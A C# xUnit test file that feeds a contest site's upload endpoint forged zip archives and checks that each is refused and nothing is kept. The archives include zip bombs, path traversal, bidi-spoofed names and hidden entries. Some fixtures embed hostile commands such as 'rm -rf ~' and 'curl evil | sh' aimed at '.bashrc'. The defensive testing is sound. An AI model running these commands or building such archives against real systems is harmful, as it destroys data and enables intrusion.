using System.Net;
using System.Text;
using ContestSite.Core.Submissions;
using ContestSite.Web.Tests.Files;
using ContestSite.Web.Tests.Infrastructure;
using static ContestSite.Web.Tests.Submissions.SubmissionTestKit;
using Entry = ContestSite.Web.Tests.Files.HandMadeZip.Entry;

namespace ContestSite.Web.Tests.Submissions;

/// <summary>
/// Zips whose headers lie, each sent as a team's source package through the real upload endpoint: every
/// one is refused with its reason, and neither an upload, a staged byte nor a stored file is left behind.
/// </summary>
public sealed class ZipHeaderLiesTests(ZipHeaderLiesTests.InFirstRound shared) : IClassFixture<ZipHeaderLiesTests.InFirstRound>
{
    /// <summary>
    /// One site for the class: each test uploads as a team of its own, and what a refusal must leave alone (uploads, staged
    /// bytes, stored files) is compared with the moment before it.
    /// </summary>
    public sealed class InFirstRound : SharedSite
    {
        protected override Task<SiteFactory> StartAsync() => SiteAsync();
    }

    private static Entry Text(string name, string text = "print('开放数据')") => new(name, Encoding.UTF8.GetBytes(text));

    /// <summary>The lies by name; a zip is written only when its test runs, not each time the tests are listed (some inflate to megabytes).</summary>
    public static TheoryData<string> Lies() => new(Cases.Keys);

    private static readonly Dictionary<string, (Func<byte[]> Zip, string Refusal)> Cases = new()
    {
        ["headers declaring 1,000 bytes for an entry that inflates to 150 MB"] = (
            () => HandMadeZip.Write(new Entry("zeros.bin", new byte[150 * 1024 * 1024]) { DeclaredSize = 1000 }),
            "压缩包中的“zeros.bin”实际大小与目录记录不符，疑似伪造的压缩包"),
        ["ZIP64 fields declaring 1,000 bytes for 5 MB"] = (
            () => HandMadeZip.Write(new Entry("zeros.bin", new byte[5 * 1024 * 1024]) { DeclaredSize = 1000, Zip64 = true }),
            "压缩包中的“zeros.bin”实际大小与目录记录不符，疑似伪造的压缩包"),
        ["a lying entry inside an inner zip"] = (
            () => TestZips.WithFiles(("lib/inner.zip", HandMadeZip.Write(new Entry("zeros.bin", new byte[5 * 1024 * 1024]) { DeclaredSize = 1000 }))),
            "压缩包中的“lib/inner.zip/zeros.bin”实际大小与目录记录不符，疑似伪造的压缩包"),
        ["a local header named ../../../../x.sh behind a directory name x.sh"] = (
            () => HandMadeZip.Write(Text("x.sh", "#!/bin/sh\nrm -rf ~") with { LocalName = "../../../../x.sh" }),
            "压缩包中的“x.sh”本地文件头里的名称与目录记录不同，疑似伪造的压缩包"),
        ["a local header declaring another size than the directory"] = (
            () => HandMadeZip.Write(Text("main.py") with { LocalDeclaredSize = 5 }),
            "压缩包中的“main.py”本地文件头与目录记录不符（压缩方式、标志、大小或 CRC），疑似伪造的压缩包"),
        ["a data descriptor declaring another size than the directory"] = (
            () => HandMadeZip.Write(Text("main.py") with { DataDescriptor = true, LocalDeclaredSize = 5 }),
            "压缩包中的“main.py”本地文件头与目录记录不符（压缩方式、标志、大小或 CRC），疑似伪造的压缩包"),
        ["an encryption flag in the local header only"] = (
            () => HandMadeZip.Write(Text("main.py") with { LocalFlags = 0x0801 }),
            "压缩包中的“main.py”本地文件头与目录记录不符（压缩方式、标志、大小或 CRC），疑似伪造的压缩包"),
        ["bytes that do not match their CRC"] = (
            () => HandMadeZip.Write(Text("main.py") with { DeclaredCrc = 0xDEADBEEF }),
            "压缩包中的“main.py”CRC 校验不符，文件已损坏或被改动，请重新打包"),
        ["a bidi override turning invoice‮gpj.exe into invoiceexe.jpg"] = (
            () => HandMadeZip.Write(Text("invoice\u202Egpj.exe")),
            "压缩包中的“invoicegpj.exe”名称含有改变文字方向的不可见字符，不允许"),
        ["a right-to-left isolate in a folder name"] = (
            () => HandMadeZip.Write(Text("src\u2067/main.py")),
            "压缩包中的“src/main.py”名称含有改变文字方向的不可见字符，不允许"),
        ["a right-to-left mark"] = (
            () => HandMadeZip.Write(Text("readme\u200F.txt")),
            "压缩包中的“readme.txt”名称含有改变文字方向的不可见字符，不允许"),
        ["a terminal escape (C0) in a name"] = (
            () => HandMadeZip.Write(Text("\u001B[2Jclear.txt")),
            "压缩包中的“[2Jclear.txt”名称含有控制字符，不允许"),
        ["a C1 control (CSI) in a name"] = (
            () => HandMadeZip.Write(Text("a\u009B31mred.txt")),
            "压缩包中的“a31mred.txt”名称含有控制字符，不允许"),
        ["a name flagged UTF-8 that is not"] = (
            () => HandMadeZip.Write(Text("x") with { RawName = [(byte)'a', 0xC0, 0xAF, (byte)'b'] }),
            "压缩包中的“ab”名称不是有效的 UTF-8 编码，请重新打包"),
        ["two entries extracting to one file on Windows"] = (
            () => HandMadeZip.Write(Text("src/Main.py"), Text("SRC\\main.PY", "import os; os.system('calc')")),
            "压缩包中有重名的文件“SRC\\main.PY”（不区分大小写），不允许"),
        ["bytes appended after the end record"] = (
            () => HandMadeZip.Write([Text("main.py")], after: Encoding.ASCII.GetBytes("#!/bin/sh\necho hidden\n")),
            "压缩包中有不属于任何文件的数据，疑似伪造或拼接的压缩包，请重新打包"),
        ["bytes between two entries"] = (
            () => HandMadeZip.Write(Text("a.py") with { After = new byte[64] }, Text("b.py")),
            "压缩包中有不属于任何文件的数据，疑似伪造或拼接的压缩包，请重新打包"),
        ["an entry the directory does not list"] = (
            () => HandMadeZip.Write([Text("main.py")], hiddenEntries: [Text("../../.bashrc", "curl evil | sh")]),
            "压缩包中有不属于任何文件的数据，疑似伪造或拼接的压缩包，请重新打包"),
    };

    [Theory]
    [MemberData(nameof(Lies))]
    public async Task A_zip_whose_headers_lie_is_refused_and_nothing_is_kept(string lie)
    {
        var (zip, refusal) = Cases[lie];
        var site = shared.Site;
        using var team = await site.ApprovedTeamAsync();
        var (uploadsBefore, stagedBefore, storedBefore) = (await site.UploadCountAsync(), site.StagedBytes(), site.StoredFileCount());

        var (_, response) = await team.Member.UploadAsync(team.RoundId, SubmissionFileKind.SourcePackage, "源代码.zip", zip());

        Assert.True(response.StatusCode == HttpStatusCode.UnprocessableEntity, lie);
        Assert.Equal(refusal, await ErrorOfAsync(response));
        Assert.Equal(uploadsBefore, await site.UploadCountAsync());
        Assert.Equal(stagedBefore, site.StagedBytes());
        Assert.Equal(storedBefore, site.StoredFileCount());
    }

    [Fact]
    public async Task The_refusal_is_in_English_for_an_English_speaking_team()
    {
        var site = shared.Site;
        using var team = await site.ApprovedTeamAsync();
        var uploadsBefore = await site.UploadCountAsync();
        var switched = await team.Member.PostFormAsync("/", new Dictionary<string, string> { ["culture"] = "en-US", ["returnUrl"] = "/" }, "/culture");
        Assert.Equal(HttpStatusCode.Redirect, switched.Status);

        var (_, response) = await team.Member.UploadAsync(team.RoundId, SubmissionFileKind.SourcePackage, "source.zip",
            HandMadeZip.Write(Text("x.sh") with { LocalName = "../../../../x.sh" }));

        Assert.Equal(HttpStatusCode.UnprocessableEntity, response.StatusCode);
        Assert.Equal("The name of \"x.sh\" in its local header differs from the archive's directory; the archive looks forged", await ErrorOfAsync(response));
        Assert.Equal(uploadsBefore, await site.UploadCountAsync());
    }

    [Fact]
    public async Task An_honest_zip_with_data_descriptors_and_zip64_fields_is_accepted_and_stored()
    {
        var site = shared.Site;
        using var team = await site.ApprovedTeamAsync();
        var uploadsBefore = await site.UploadCountAsync();
        var zip = HandMadeZip.Write(Text("src/main.py") with { DataDescriptor = true }, Text("README.md", "# 开放数据") with { Zip64 = true });

        var id = await team.Member.UploadOkAsync(team.RoundId, SubmissionFileKind.SourcePackage, "源代码.zip", zip);

        Assert.Equal(uploadsBefore + 1, await site.UploadCountAsync());
        Assert.NotEqual(Guid.Empty, id);
    }
}
